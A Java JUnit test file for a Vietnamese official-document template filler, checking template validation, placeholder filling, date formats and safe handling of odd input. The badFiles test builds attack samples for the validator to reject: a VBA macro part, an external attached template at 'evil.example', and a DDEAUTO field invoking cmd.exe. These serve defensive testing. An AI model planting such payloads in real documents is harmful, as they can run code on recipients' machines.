package vn.dondoc.papers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFRun;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import vn.dondoc.work.Refusal;

@DisplayName("Mẫu văn bản: mẫu có sẵn, mẫu của cơ quan, mẫu hỏng, chữ lạ trong dữ liệu")
class TemplatesTest {

    private static final Instant NOW = Instant.parse("2020-12-31T01:00:00Z");

    private final Layouts layouts = new Layouts();

    @ParameterizedTest
    @EnumSource(Paper.class)
    @DisplayName("Mẫu có sẵn của mọi thể thức đều dùng được và điền hết mọi chỗ")
    void shipped(Paper paper) {
        for (Layouts.Layout layout : layouts.all()) {
            byte[] template = layouts.template(layout, paper);
            assertThatCode(() -> TemplateCheck.require(paper, template, "mau.docx"))
                    .as(layout.folder())
                    .doesNotThrowAnyException();
            String text = new Docx(Filling.fill(template, paper, PaperData.sample(paper, NOW))).text();
            assertThat(text).doesNotContain("{{", "}}");
            paper.names().stream()
                    .filter(name -> name.required() && name.columns().isEmpty())
                    .forEach(name -> assertThat(text).contains("«" + name.name() + "»"));
        }
    }

    @Test
    @DisplayName("Thể thức theo ngày của văn bản: trước 09-01-2026 theo 36-HD/VPTW, từ ngày đó theo quy định mới")
    void layoutByDay() {
        assertThat(layouts.on(LocalDate.of(2019, 10, 17)).folder()).isEqualTo("hd36-2018");
        assertThat(layouts.on(LocalDate.of(2026, 1, 8)).folder()).isEqualTo("hd36-2018");
        assertThat(layouts.on(LocalDate.of(2026, 1, 9)).folder()).isEqualTo("hd05-2026");
        assertThat(layouts.on(LocalDate.of(2000, 1, 1)).folder()).isEqualTo("hd36-2018");
    }

    @Test
    @DisplayName("Cơ quan đổi lời, Word cắt chỗ điền thành nhiều đoạn chữ: vẫn điền đúng")
    void editedInWord() {
        byte[] edited = edited(Paper.URGING_LETTER, word -> {
            XWPFRun place = run(word, "{{số việc quá hạn}}");
            String text = place.text();
            int cut = text.indexOf("việc quá");
            place.setText(text.substring(0, cut), 0);
            place.getParent();
            var paragraph = (org.apache.poi.xwpf.usermodel.XWPFParagraph) place.getParent();
            paragraph.insertNewRun(paragraph.getRuns().indexOf(place) + 1).setText(text.substring(cut));
            paragraph.createRun().setText(" Trân trọng đề nghị đồng chí quan tâm.");
        });
        TemplateCheck.require(Paper.URGING_LETTER, edited, "mau.docx");
        assertThat(new Docx(Filling.fill(edited, Paper.URGING_LETTER, PaperData.sample(Paper.URGING_LETTER, NOW)))
                        .text())
                .contains("còn «số việc quá hạn» đang quá hạn", "Trân trọng đề nghị");
    }

    @Test
    @DisplayName("Chỗ điền viết sai tên: nêu tên sai và tên đúng; bỏ chỗ bắt buộc: nêu chỗ thiếu")
    void wrongNames() {
        assertThatThrownBy(() -> check(Paper.URGING_LETTER, text -> text.replace("{{kính gửi}}", "{{kinh gui}}")))
                .isInstanceOf(Refusal.class)
                .hasMessageContaining("không có chỗ điền nào tên {{kinh gui}} (có phải {{kính gửi}}?)")
                .hasMessageContaining("thiếu {{kính gửi}}");
        assertThatThrownBy(() -> check(Paper.PERIOD_REPORT, text -> text.replace("{{mã số liệu}}", "")))
                .hasMessageContaining("thiếu {{mã số liệu}}");
        assertThatThrownBy(() -> check(Paper.PERIOD_REPORT, text -> text.replace("[nội dung]", "[ket qua]")))
                .hasMessageContaining("bảng các điểm không có cột [ket qua]");
        assertThatThrownBy(() -> check(Paper.PERIOD_REPORT, text -> text.replace("{{kỳ báo cáo}}", "{{kỳ báo cáo}")))
                .hasMessageContaining("không thành cặp");
    }

    @Test
    @DisplayName("Dấu lệnh của thư viện (ảnh, tệp ghép, điều kiện) không được nhận")
    void noCommands() {
        for (String sign : List.of("@", "+", "#", "*", "?", "=")) {
            assertThatThrownBy(() -> check(
                            Paper.URGING_LETTER,
                            text -> text.replace("trước ngày {{hạn trả lời}}", "{{" + sign + "kính gửi}}")))
                    .as(sign)
                    .isInstanceOf(Refusal.class);
        }
    }

    @Test
    @DisplayName("Macro, tệp nhúng, liên kết ngoài, trường lấy dữ liệu, tệp không phải .docx: không nhận, nêu lý do")
    void badFiles() {
        byte[] good = layouts.template(layouts.all().get(0), Paper.URGING_LETTER);
        assertThatThrownBy(() ->
                        TemplateCheck.require(Paper.URGING_LETTER, with(good, "word/vbaProject.bin", "x"), "mau.docx"))
                .hasMessageContaining("macro");
        assertThatThrownBy(() -> TemplateCheck.require(Paper.URGING_LETTER, "xin chào".getBytes(), "mau.txt"))
                .hasMessageContaining("không phải .docx");
        assertThatThrownBy(() -> TemplateCheck.require(Paper.URGING_LETTER, new byte[0], "mau.docx"))
                .hasMessageContaining("rỗng");
        assertThatThrownBy(() -> TemplateCheck.require(Paper.URGING_LETTER, good, "mau.pdf"))
                .hasMessageContaining("mang đuôi .pdf");
        assertThatThrownBy(() -> TemplateCheck.require(
                        Paper.URGING_LETTER,
                        changed(
                                good,
                                "word/_rels/document.xml.rels",
                                xml -> xml.replace(
                                        "</Relationships>",
                                        "<Relationship Id=\"x1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                                + "relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
                                                + " TargetMode=\"External\"/></Relationships>")),
                        "mau.docx"))
                .hasMessageContaining("tệp bên ngoài");
        assertThatThrownBy(() -> TemplateCheck.require(
                        Paper.URGING_LETTER,
                        changed(
                                good,
                                "word/document.xml",
                                xml -> xml.replaceFirst(
                                        "</w:p>", "<w:fldSimple w:instr=\"DDEAUTO c:\\\\\\\\cmd.exe\"/></w:p>")),
                        "mau.docx"))
                .hasMessageContaining("trường lấy dữ liệu");
    }

    @Test
    @DisplayName(
            "Chữ của đơn vị giống chỗ điền, giống mã lệnh, có ký tự điều khiển: ra đúng là chữ; 400 dòng vẫn soạn được")
    void textStaysText() {
        String hostile = "{{nơi nhận}} {{@anh}} [điểm] ${x} <w:p>&amp; \u0000\u0007=1+1\ndòng hai";
        List<Map<String, String>> rows = new ArrayList<>();
        for (int i = 1; i <= 400; i++) {
            rows.add(PaperData.row("thứ tự", "" + i, "điểm", hostile, "nhiệm vụ", "Việc " + i, "nội dung", hostile));
        }
        PaperData sample = PaperData.sample(Paper.PERIOD_REPORT, NOW);
        byte[] paper = Filling.fill(
                layouts.template(layouts.all().get(0), Paper.PERIOD_REPORT),
                Paper.PERIOD_REPORT,
                new PaperData(sample.texts(), Map.of("các điểm", rows), "2020", "x", NOW));
        List<List<String>> table = new Docx(paper).table("Kết quả");
        assertThat(table).hasSize(400);
        assertThat(table.get(399))
                .containsExactly(
                        "400",
                        "{{nơi nhận}} {{@anh}} [điểm] ${x} <w:p>&amp; =1+1\ndòng hai",
                        "Việc 400",
                        "{{nơi nhận}} {{@anh}} [điểm] ${x} <w:p>&amp; =1+1\ndòng hai");
    }

    @Test
    @DisplayName("Bảng không có dòng nào ghi \"Không có\", không để trống")
    void emptyTable() {
        PaperData sample = PaperData.sample(Paper.URGING_LETTER, NOW);
        byte[] paper = Filling.fill(
                layouts.template(layouts.all().get(0), Paper.URGING_LETTER),
                Paper.URGING_LETTER,
                new PaperData(sample.texts(), Map.of(), null, null, NOW));
        assertThat(new Docx(paper).table("Nhiệm vụ")).hasSize(1).allMatch(row -> row.contains("Không có"));
    }

    @Test
    @DisplayName("Ngày viết theo thể thức: 05-3-2020, 05-02-2020; tỷ lệ luôn kèm mẫu số")
    void printed() {
        assertThat(Printed.day(LocalDate.of(2020, 3, 5))).isEqualTo("05-3-2020");
        assertThat(Printed.day(LocalDate.of(2020, 2, 15))).isEqualTo("15-02-2020");
        assertThat(Printed.day(LocalDate.of(2020, 12, 31))).isEqualTo("31-12-2020");
        assertThat(Printed.rate(1, 3)).isEqualTo("1/3 (33,3%)");
        assertThat(Printed.rate(0, 0)).isEqualTo("0/0");
    }

    // ------------------------------------------------------------------------------------------------- editing

    private void check(Paper paper, UnaryOperator<String> change) {
        TemplateCheck.require(
                paper,
                edited(
                        paper,
                        word -> runs(word).forEach(run -> {
                            if (run.text() != null && !run.text().equals(change.apply(run.text()))) {
                                run.setText(change.apply(run.text()), 0);
                            }
                        })),
                "mau.docx");
    }

    private byte[] edited(Paper paper, Consumer<XWPFDocument> edit) {
        try (XWPFDocument word = new XWPFDocument(
                        new ByteArrayInputStream(layouts.template(layouts.all().get(0), paper)));
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            edit.accept(word);
            word.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static List<XWPFRun> runs(XWPFDocument word) {
        List<XWPFRun> runs = new ArrayList<>();
        word.getParagraphs().forEach(paragraph -> runs.addAll(paragraph.getRuns()));
        word.getTables()
                .forEach(table -> table.getRows()
                        .forEach(row -> row.getTableCells()
                                .forEach(cell ->
                                        cell.getParagraphs().forEach(paragraph -> runs.addAll(paragraph.getRuns())))));
        return runs;
    }

    private static XWPFRun run(XWPFDocument word, String text) {
        return runs(word).stream()
                .filter(run -> run.text().contains(text))
                .findFirst()
                .orElseThrow();
    }

    private static byte[] with(byte[] docx, String part, String content) {
        return rewritten(docx, part, xml -> content, true);
    }

    private static byte[] changed(byte[] docx, String part, UnaryOperator<String> change) {
        return rewritten(docx, part, change, false);
    }

    private static byte[] rewritten(byte[] docx, String part, UnaryOperator<String> change, boolean added) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx));
                ZipOutputStream zip = new ZipOutputStream(out)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                zip.putNextEntry(new ZipEntry(entry.getName()));
                byte[] content = in.readAllBytes();
                zip.write(
                        entry.getName().equals(part)
                                ? change.apply(new String(content, java.nio.charset.StandardCharsets.UTF_8))
                                        .getBytes(java.nio.charset.StandardCharsets.UTF_8)
                                : content);
            }
            if (added) {
                zip.putNextEntry(new ZipEntry(part));
                zip.write(change.apply("").getBytes(java.nio.charset.StandardCharsets.UTF_8));
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
